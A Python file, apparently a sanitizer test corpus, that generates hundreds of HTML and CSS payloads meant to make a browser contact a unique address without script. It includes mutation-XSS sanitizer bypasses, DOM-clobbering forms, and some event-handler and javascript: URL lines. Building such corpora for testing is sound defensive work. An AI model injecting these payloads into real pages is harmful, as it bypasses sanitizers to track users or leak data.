"""What HTML can try in order to reach the network without a script: a list, for each client. URL is replaced by an
address that no other payload has.

The first part mutates: it is something else when it is parsed once more, or it hides in content that a parser reads
in another way. The kinds are those that are known of sanitizers of the last ten years: namespaces that change, raw text
in foreign content, nested forms and tables, depth, comments, names that hide a node's own.
"""
LINK = "<link rel=preconnect href=URL>"  # what no policy of a page stops

# %s: what connects; %e: the same with its "<" and ">" as entities.
AROUND = """
<form><math><mtext></form><form><mglyph><style></math>%s
<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>%s">
<math><mtext><table><mglyph><style><!--</style><i title="--&gt;%e">
<math><mtext><table><mglyph><style><math>%s
<math><mtext><mglyph><style></math>%s
<math><mi><malignmark><style></math>%s
<math><annotation-xml encoding="text/html"><style><i title="</style>%s">
<math><annotation-xml encoding="application/xhtml+xml"><xmp><i title="</xmp>%s">
<math><annotation-xml><svg><foreignObject><style><i title="</style>%s">
<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style>%s">
<svg></p><style><a id="</style>%s">
<svg><p><style><g title="</style>%s">
<svg><style><!--</style></svg><i title="--&gt;%e">
<svg><style><![CDATA[</style></svg>%s]]></style>
<svg><style>&lt;/style&gt;%e</style></svg>
<svg><desc><style><i title="</style>%s">
<svg><title><style><i title="</style>%s">
<svg><title><xmp></title></svg>%s</xmp>
<svg><desc><![CDATA[</desc></svg>%s]]>
<svg><foreignObject><style><i title="</style>%s"></foreignObject>
<svg><foreignObject><math><mi><mglyph><style></mi></math>%s
<svg><font color=red><style><i title="</style>%s">
<svg><a><noscript><i title="</noscript>%s">
<svg><textarea><i title="</textarea>%s">
<svg><iframe><i title="</iframe>%s">
<svg><xmp><i title="</xmp>%s">
<svg><noembed><i title="</noembed>%s">
<svg><script>&lt;/script&gt;%e</script>
<svg><plaintext><i title="%s">
<math><plaintext></math>%s
<noscript><i title="</noscript>%s"></noscript>
<noscript><style></noscript>%s</style>
<noembed><i title="</noembed>%s"></noembed>
<noframes><i title="</noframes>%s"></noframes>
<xmp><i title="</xmp>%s"></xmp>
<xmp>&lt;/xmp&gt;%e</xmp>
<iframe><i title="</iframe>%s"></iframe>
<iframe srcdoc='%e'></iframe>
<textarea><i title="</textarea>%s"></textarea>
<title><i title="</title>%s"></title>
<title>&lt;/title&gt;%e</title>
<template><style></template>%s</style></template>
<template>%s</template>
<div><template shadowrootmode=open>%s</template></div>
<svg><template><style><i title="</style>%s"></template></svg>
<select><template><style></select>%s
<select><option><style></option></select>%s</style></select>
<select><math><style></select>%s
<select><iframe></select>%s
<select><selectedcontent></selectedcontent><option>%s
<table><td><math><mtext><table><mglyph><style></td>%s
<table><caption><svg><style></caption>%s
<table><colgroup><template><tr><style></colgroup>%s
<table><tr><form></tr><input name=attributes>%s</form>
<a><table><a>%s</table></a>
<a><svg><a><style></svg>%s
<b><p><b><i><u></p></b>%s
<p><svg></p><style></svg>%s
<p><h1><h2><math></p><style></math>%s
<ruby><rtc><svg><style></ruby>%s
<ul><li><ul></li><math><mtext></li><style></math>%s
<button><svg></button><style></svg>%s
<listing>%e</listing>
<listing>&#10;&lt;/listing&gt;%s</listing>
<pre>&#10;%s</pre>
<plaintext>%s
<frameset><frame src=URL></frameset>%s
<object><param></object>%s
<object data="data:text/html,%e"></object>
<video><source>%s</video>
<marquee>%s</marquee>
<dialog open>%s</dialog>
<details open>%s</details>
<![CDATA[><i title="]]>%s">
<!--><i>%s-->
<!--!>%s-->
<!-- --!>%s<!-- -->
<!---->%s<!-->-->
<?xml version="1.0"?>%s
<?x ?>%s<? >
<!DOCTYPE x [<!ENTITY y '%s'>]>
<!ELEMENT %s>
</br></p></x %s>%s
<i title='"'>%s<i title="'">
<i title=`>%s`>
<i title="&quot;>%e">
<i title="&lt;/i&gt;%e">
<img alt="`` onerror=x">%s
<i/title="/>%s
<form><input name=attributes><input name=parentNode>%s</form>
<form><input name=childNodes><input name=firstChild>%s</form>
<form><input name=nodeType><input name=localName>%s</form>
<form><input name=namespaceURI><input name=tagName>%s</form>
<form><input name=removeChild><input name=remove>%s</form>
<form><input name=querySelectorAll><input name=nextSibling>%s</form>
<form id=a></form><input form=a name=attributes>%s
<img name=querySelectorAll>%s
<img name=body><img name=documentElement>%s
<img name=createElementNS><img name=importNode>%s
<form name=body><input name=innerHTML>%s</form>
<embed name=createTreeWalker>%s
<x-a is=link>%s</x-a>
<svg:g>%s</svg:g>
<html xmlns:x=http://www.w3.org/1999/xhtml><x:link rel=preconnect href=URL>%s
<svg xmlns:h=http://www.w3.org/1999/xhtml><h:link rel=preconnect href=URL />%s</svg>
<svg><html><head>%s
<math><html><body>%s
<head><style></head>%s
</body></html>%s
<body><head>%s</head>
<area><col><frame>%s
<image><isindex>%s
<nobr><nobr><svg><nobr><style></svg>%s
<font><center><math><font color=x><style></math>%s
""".strip("\n").split("\n")
DEEP = ["<div>" * 510 + "<form><math><mtext></form><form><mglyph><style></math>%s",
        "<div>" * 505 + "<svg><desc><div><math><mtext><style><i title='</style>%s'>",
        "<table>" * 300 + "<math><mtext><mglyph><style></math>%s", "<form><i>" * 200 + "<svg><style><i title='</style>%s'>",
        "<b><p>" * 100 + "<svg><style></p><i title='</style>%s'>"]

DIRECT = """
<link rel=preconnect href=URL>
<link rel="x preconnect" href=URL>
<link rel=preconnect crossorigin href=URL>
<link rel=dns-prefetch href=URL>
<link rel=prefetch href=URL>
<link rel=preload as=image href=URL>
<link rel=preload as=image imagesrcset=URL>
<link rel=preload as=font crossorigin href=URL>
<link rel=preload as=style href=URL>
<link rel=modulepreload href=URL>
<link rel=prerender href=URL>
<link rel=next href=URL>
<link rel=stylesheet href=URL>
<link rel="alternate stylesheet" href=URL>
<link rel=icon href=URL>
<link rel=manifest href=URL>
<link rel=compression-dictionary href=URL>
<LINK REL=PRECONNECT HREF=URL>
<lin&#107; rel=preconnect href=URL><link rel=&#112;reconnect href=URL>
<meta http-equiv=refresh content="0;url=URL">
<meta http-equiv=Refresh content="0,URL">
<meta http-equiv=link content="<URL>;rel=preconnect">
<meta http-equiv=x-dns-prefetch-control content=on><a href=URL>a</a>
<meta http-equiv=Content-Security-Policy content="img-src 'none';report-uri URL"><img src=x:y>
<base href=URL><img src=a.png>
<base href=URL><link rel=preconnect href=/>
<base href=URL target=_top><a href=a>a</a>
<img src=URL>
<img src="&#9;URL">
<img srcset="URL 1x, URL?2 2x">
<img src=x loading=lazy srcset=URL>
<img lowsrc=URL dynsrc=URL>
<img attributionsrc=URL src=data:,>
<image src=URL>
<picture><source srcset=URL><img></picture>
<video src=URL></video>
<video poster=URL></video>
<video><source src=URL></video>
<video><track default src=URL></video>
<audio src=URL autoplay></audio>
<embed src=URL>
<embed type=image/svg+xml src=URL>
<object data=URL></object>
<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>"></object>
<object type=text/html data=URL><img src=URL></object>
<applet code=x codebase=URL></applet>
<iframe src=URL></iframe>
<iframe src="data:text/html,<img src=URL>"></iframe>
<iframe srcdoc="<img src=URL>"></iframe>
<iframe srcdoc="&lt;link rel=preconnect href=URL&gt;"></iframe>
<iframe src="javascript:'<img src=URL>'"></iframe>
<fencedframe src=URL></fencedframe>
<portal src=URL></portal>
<frameset><frame src=URL></frameset>
<input type=image src=URL>
<input type=image src=URL formaction=URL>
<form action=URL><button>b</button></form>
<form action=URL><input type=submit></form>
<form><button formaction=URL>b</button></form>
<form id=f action=URL></form><button form=f>b</button>
<form action=URL><input type=image></form>
<form method=dialog action=URL><button>b</button></form>
<a href=URL>a</a>
<a href=URL target=_blank rel=opener>a</a>
<a href=URL target=_top>a</a>
<a href="#" ping=URL>a</a>
<a href=URL download>a</a>
<a href="&#1;URL">a</a>
<a href="java&#10;script:location='URL'">a</a>
<a href=#x attributionsrc=URL>a</a>
<map name=m><area shape=default href=URL></map><img usemap=#m src=data:image/gif;base64,R0lGODlhAQABAAAAACw= width=9 height=9>
<body background=URL>
<table background=URL><td>x
<table><td background=URL>x
<table><tr background=URL><th background=URL>x
<html manifest=URL>
<script src=URL></script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["URL"]}]}</script>
<script type=importmap>{"imports":{"a":"URL"}}</script>
<script>new Image().src='URL'</script>
<img src=x:y onerror="new Image().src='URL'">
<body onload="new Image().src='URL'">
<details open ontoggle="new Image().src='URL'"></details>
<style onload="new Image().src='URL'"></style>
<div autofocus tabindex=0 onfocus="new Image().src='URL'">
<video onloadstart="new Image().src='URL'"><source src=x></video>
<bgsound src=URL>
<layer src=URL></layer>
<xml src=URL></xml>
<isindex action=URL>
<q cite=URL><ins cite=URL>x</ins></q>
<math href=URL><mi>x</mi></math>
<math><mi xlink:href=URL>x</mi></math>
<math><maction actiontype=statusline xlink:href=URL>x</maction></math>
<math><mglyph src=URL></math>
<svg><image href=URL width=9 height=9 /></svg>
<svg><image xlink:href=URL width=9 height=9 /></svg>
<svg><image href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>" /></svg>
<svg><use href="URL#a"/></svg>
<svg><use xlink:href="URL#a"/></svg>
<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>#a"/></svg>
<svg><filter id=a><feImage href=URL /></filter><rect width=9 height=9 filter=url(#a) /></svg>
<svg><script href=URL></script></svg>
<svg><style>@import "URL";</style></svg>
<svg><a href=URL><rect width=99 height=99 /></a></svg>
<svg><a xlink:href=URL><text y=9>a</text></a></svg>
<svg><a><set attributeName=href to=URL /><rect width=99 height=99 /></a></svg>
<svg><a><set attributeName=xlink:href to=URL begin=0s /><rect width=99 height=99 /></a></svg>
<svg><a><animate attributeName=href values="URL;URL" dur=9s fill=freeze /><rect width=99 height=99 /></a></svg>
<svg><image width=9 height=9><set attributeName=href to=URL /></image></svg>
<svg><image width=9 height=9><animate attributeName=href values=URL /></image></svg>
<svg><use><animate attributeName=href from=URL#a to=URL#b dur=1s /></use></svg>
<svg><a id=a><rect width=9 height=9 /></a><set href=#a attributeName=href to=URL /></svg>
<svg><rect id=r width=9 height=9 /><set href=#r attributeName=style to="fill:url(URL#a)" /></svg>
<svg><animateMotion path=M0,0><mpath href=URL#a /></animateMotion></svg>
<svg><foreignObject><iframe src=URL></iframe></foreignObject></svg>
<svg><foreignObject><link rel=preconnect href=URL></foreignObject></svg>
<svg><foreignObject><img src=URL></foreignObject></svg>
<svg><switch><foreignObject requiredExtensions=http://www.w3.org/1999/xhtml><img src=URL></foreignObject></switch></svg>
<svg><rect width=9 height=9 fill="url(URL#a)"/></svg>
<svg><rect width=9 height=9 fill="u\\72l(URL#a)"/></svg>
<svg><rect width=9 height=9 filter="url(URL#a)"/></svg>
<svg><rect width=9 height=9 mask="url(URL#a)"/></svg>
<svg><rect width=9 height=9 mask="image-set('URL' 1x)"/></svg>
<svg><rect width=9 height=9 clip-path="url(URL#a)"/></svg>
<svg><path d=M0,0L9,9 marker-end="url(URL#a)"/></svg>
<svg><rect width=9 height=9 cursor="url(URL),auto"/></svg>
<svg><textPath href=URL#a>x</textPath></svg>
<svg><linearGradient id=g href=URL#a /><rect width=9 height=9 fill=url(#g) /></svg>
<svg><pattern id=g href=URL#a /><rect width=9 height=9 fill=url(#g) /></svg>
<svg><tref xlink:href=URL#a /></svg>
<svg><font-face><font-face-src><font-face-uri href=URL /></font-face-src></font-face></svg>
<svg><color-profile href=URL /></svg>
<svg><cursor href=URL /></svg>
<svg><audio href=URL /><video href=URL /></svg>
<svg><discard href=URL /><handler href=URL /></svg>
<svg xml:base=URL><image href=a.png /></svg>
<svg onload="new Image().src='URL'"></svg>
<?xml-stylesheet href="URL"?><svg></svg>
<!DOCTYPE svg SYSTEM "URL"><svg></svg>
<svg><metadata><link xmlns=http://www.w3.org/1999/xhtml rel=preconnect href=URL /></metadata></svg>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><style>@import 'URL';</style></svg>">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><link xmlns='http://www.w3.org/1999/xhtml' rel='preconnect' href='URL'/></svg>">
<img src="data:image/svg+xml,<?xml-stylesheet href='URL'?><svg xmlns='http://www.w3.org/2000/svg'/>">
<input type=checkbox background=URL><label for=x cite=URL>x</label>
<ruby background=URL><rt longdesc=URL>x</rt></ruby>
<p popover id=p>x</p><button popovertarget=p formaction=URL>b</button>
""".strip("\n").split("\n")

VALUES = """
background:url(URL)
background:url("URL")
background:u\\72l(URL)
background:\\75 \\72 \\6c(URL)
background:uRL(URL)
background:url(URL) var(--none,red)
background-image:image-set("URL" 1x)
background-image:image-set(url(URL) 1x)
background-image:-webkit-image-set(url(URL) 1x)
background-image:-webkit-cross-fade(url(URL),url(URL),50%)
background-image:cross-fade(url(URL),red)
background-image:src("URL")
background-image:image("URL")
background-image:light-dark(url(URL),url(URL))
background-image:linear-gradient(red,red),url(URL)
--a:url(URL);background:var(--a)
--a:u\\72l(URL);background:var(--a)
--a:"URL";background:image-set(var(--a) 1x)
--a:/**/url(URL);--b:var(--a);background:var(--b)
list-style:url(URL);display:list-item
content:url(URL)
content:"a" url(URL)/"b"
cursor:url(URL),auto
border-image:url(URL) 1
border-image-source:url(URL);border:1px solid
mask-image:url(URL)
-webkit-mask-box-image:url(URL)
-webkit-mask:url(URL#m)
filter:url(URL#f)
backdrop-filter:url(URL#f)
clip-path:url(URL#c)
shape-outside:url(URL);float:left
offset-path:url(URL#p)
-webkit-box-reflect:below 0 url(URL)
background:attr(data-u type(<url>))
behavior:url(URL);-moz-binding:url(URL)
background:url(URL
background:"\\a ";background:url(URL)
color:red/*;*/;background:/**/url(URL)
background:url(URL)!important;all:unset
""".strip("\n").split("\n")

SHEETS = """
@import "URL";
@import url(URL);
@import url("URL") layer(a) supports(display:grid) screen;
@\\69mport "URL";
@charset "x";@import 'URL';
<!-- @import "URL"; -->
@namespace x "URL";@import "URL";
@font-face{font-family:f;src:url(URL)}p{font-family:f}
@font-face{font-family:f;src:local(x),url(URL) format("woff2")}p{font-family:f}
@media all{p{background:url(URL)}}
@media all{@media all{@supports (display:grid){p{background:url(URL)}}}}
@layer a{p{background:url(URL)}}
@container (min-width:0){p{background:url(URL)}}
@scope (body){p{background:url(URL)}}
@starting-style{p{background:url(URL)}}
@keyframes k{from,to{background:url(URL)}}p{animation:k 9s}
@property --a{syntax:"<image>";inherits:false;initial-value:url(URL)}p{background:var(--a)}
@counter-style c{system:cyclic;symbols:url(URL)}p{list-style:c;display:list-item}
@page{background:url(URL)}
body{p{&{background:url(URL)}}}
p::before{content:url(URL)}
html{background:url(URL)}
:root{--a:url(URL)}p{background:var(--a)}
p:is(p){background:url(URL)}
p{}/*</style>*/p{background:url(URL)}
p{content:"</style><link rel=preconnect href=URL>"}
p{--a:"</style><link rel=preconnect href=URL>"}
</style><link rel=preconnect href=URL><style>
*{content:"}@import 'URL';{"}
p{background:url(URL)
@function --f(){result:url(URL)}p{background:--f()}
@view-transition{navigation:auto}p{background:if(style(--a:1):url(URL);else:url(URL))}
""".strip("\n").split("\n")


def entities(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;").replace("'", "&#39;")


def every():
    around = [line.replace("%e", entities(LINK)).replace("%s", LINK) for line in AROUND + DEEP]
    inline = [f"<p style='{value.replace(chr(39), '&#39;')}' data-u=URL>x</p>" for value in VALUES]
    sheets = [f"<style>p{{{value}}}</style><p data-u=URL>x</p>" for value in VALUES]
    sheets += [f"<style>{sheet}</style><p>x</p>" for sheet in SHEETS]
    return [*around, *DIRECT, *inline, *sheets]
